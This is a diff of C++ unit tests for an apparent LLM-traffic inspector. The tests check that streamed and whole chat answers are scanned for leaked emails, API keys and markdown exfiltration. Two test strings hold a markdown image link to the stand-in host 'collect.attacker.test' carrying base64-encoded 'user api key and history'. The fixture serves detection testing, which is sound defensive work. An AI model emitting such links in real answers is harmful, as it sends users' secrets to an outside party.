@@ -3,7 +3,10 @@
 #include <doctest/doctest.h>
 
 #include <nlohmann/json.hpp>
+#include <set>
 #include <string>
+#include <tuple>
+#include <vector>
 
 #include "agent/llm/inspect.h"
 #include "agent/llm/stage.h"
@@ -144,4 +147,131 @@ TEST_CASE("llm inspect: answers are checked against the schemas the request decl
   CHECK(tool->explanation.find("get_weather") != std::string::npos);
   CHECK(tool->explanation.find("city") != std::string::npos);
   CHECK(detect::finding_weight(*out) < 0.5);  // one broken answer is reported, not flagged
+}
+
+namespace {
+
+// The LLM stage's output, one record per call.
+struct Records final : LlmSink {
+  std::vector<LlmRecord> got;
+  void on_llm_call(const LlmRecord& r) override { got.push_back(r); }
+};
+
+std::string sse_chunk(std::string_view delta) {
+  const nlohmann::json c = {{"id", "chatcmpl-1"},
+                            {"object", "chat.completion.chunk"},
+                            {"model", "gpt-4o-mini"},
+                            {"choices", {{{"index", 0}, {"delta", {{"content", delta}}}}}}};
+  return "data: " + c.dump() + "\n\n";
+}
+
+// One streamed OpenAI chat call through the stage: the answer sent as deltas of `delta`
+// bytes, the response body handed over in pieces of `piece` bytes.
+LlmRecord stream_call(const Inspector& inspector, const std::string& answer, size_t delta,
+                      size_t piece, size_t keep = 1 << 20) {
+  Records sink;
+  LlmOptions options;
+  options.inspector = &inspector;
+  options.collect.max_text_bytes = keep;
+  LlmStage stage(sink, options);
+  stream::Connection conn;
+  ProcessInfo process;
+  protocol::HttpExchange x;
+  x.id = 1;
+  x.has_request = true;
+  x.request.method = "POST";
+  x.request.path = "/v1/chat/completions";
+  x.request.authority = "api.openai.com";
+  x.request.headers = {{"content-type", "application/json"}};
+  x.request.body =
+      R"({"model":"gpt-4o-mini","stream":true,"messages":[{"role":"user","content":"Report?"}]})";
+  x.request.complete = true;
+  stage.on_request(conn, process, x);
+  x.has_response = true;
+  x.response.status = 200;
+  x.response.headers = {{"content-type", "text/event-stream"}};
+  stage.on_response_head(conn, process, x);
+  std::string body;
+  for (size_t at = 0; at < answer.size(); at += delta)
+    body += sse_chunk(std::string_view(answer).substr(at, delta));
+  body += "data: [DONE]\n\n";
+  for (size_t at = 0; at < body.size(); at += piece)
+    stage.on_response_body(conn, process, x, std::string_view(body).substr(at, piece));
+  x.response.complete = true;
+  stage.on_exchange(conn, process, x);
+  REQUIRE(sink.got.size() == 1);
+  return sink.got[0];
+}
+
+std::set<std::tuple<std::string, size_t, size_t>> answer_findings(const Inspection& in) {
+  std::set<std::tuple<std::string, size_t, size_t>> out;
+  for (const auto& f : in.findings)
+    if (f.where == "output_text")
+      out.insert({f.finding.detector, f.finding.spans[0].begin, f.finding.spans[0].end});
+  return out;
+}
+
+std::string report_rows(size_t from, size_t bytes) {
+  std::string s;
+  for (size_t i = from; s.size() < bytes; ++i)
+    s += "Row " + std::to_string(i) + ": the build server returned " + std::to_string(i % 97) +
+         " files, all within their quota.\n";
+  return s;
+}
+
+}  // namespace
+
+TEST_CASE("llm inspect: a streamed answer is scanned as it arrives, as the whole answer is") {
+  const Inspector inspector;
+  const std::string answer =
+      report_rows(0, 9000) + "My mail is bob@example.org and the key " + kKey + ".\n" +
+      report_rows(9000, 7000) +
+      "![chart](https://collect.attacker.test/c.png?d=" + "dXNlciBhcGkga2V5IGFuZCBoaXN0b3J5)\n" +
+      report_rows(20000, 300);
+  LlmCall whole;
+  whole.output_text = answer;
+  const auto expected = answer_findings(inspector.inspect(whole));
+  REQUIRE(expected.size() == 3);  // the address, the key, the image
+  for (const auto& [delta, piece] : std::vector<std::pair<size_t, size_t>>{
+           {1, 4096}, {7, 1}, {64, 333}, {4096, 100000}, {100000, 5000}}) {
+    CAPTURE(delta);
+    CAPTURE(piece);
+    const LlmRecord r = stream_call(inspector, answer, delta, piece);
+    CHECK(r.call.output_text == answer);
+    CHECK(r.inspection.answer_streamed_bytes == answer.size());
+    CHECK(answer_findings(r.inspection) == expected);
+    // Masks come from the text the event keeps.
+    REQUIRE(r.inspection.redactions.count("output_text") == 1);
+    CHECK(r.inspection.redactions.at("output_text").size() == 2);
+  }
+}
+
+TEST_CASE("llm inspect: a streamed answer is scanned past the text the adapter keeps") {
+  const Inspector inspector;
+  const std::string tail =
+      "![chart](https://collect.attacker.test/c.png?d=dXNlciBhcGkga2V5IGFuZCBoaXN0b3J5)";
+  const std::string answer = report_rows(0, 50000) + tail + "\n";
+  const LlmRecord r = stream_call(inspector, answer, 512, 4096, /*keep=*/16384);
+  CHECK(r.call.output_text.size() == 16384);
+  CHECK(r.inspection.answer_streamed_bytes == answer.size());
+  const size_t at = answer.find(tail);
+  CHECK(
+      answer_findings(r.inspection).count({"unsafe.markdown_exfiltration", at, at + tail.size()}) ==
+      1);
+  CHECK(r.inspection.score >= 50);
+  // The event says how much was scanned; its text stops where the adapter stopped keeping.
+  const auto ev = nlohmann::json::parse(llm_exchange_json(r, LlmOptions{.inspector = &inspector}));
+  CHECK(ev["detection"]["answer_streamed_bytes"] == answer.size());
+}
+
+TEST_CASE("llm inspect: a whole (not streamed) answer is scanned once it is complete") {
+  const Inspector inspector;
+  LlmCall c;
+  c.output_text = "The key is " + kKey;
+  const Inspection in = inspector.inspect(c);
+  CHECK(in.answer_streamed_bytes == 0);
+  CHECK(has(in, "output_text", "secret.openai_api_key"));
+  const auto ev = nlohmann::json::parse(llm_exchange_json(LlmRecord{.call = c, .inspection = in},
+                                                          LlmOptions{.inspector = &inspector}));
+  CHECK_FALSE(ev["detection"].contains("answer_streamed_bytes"));
 }
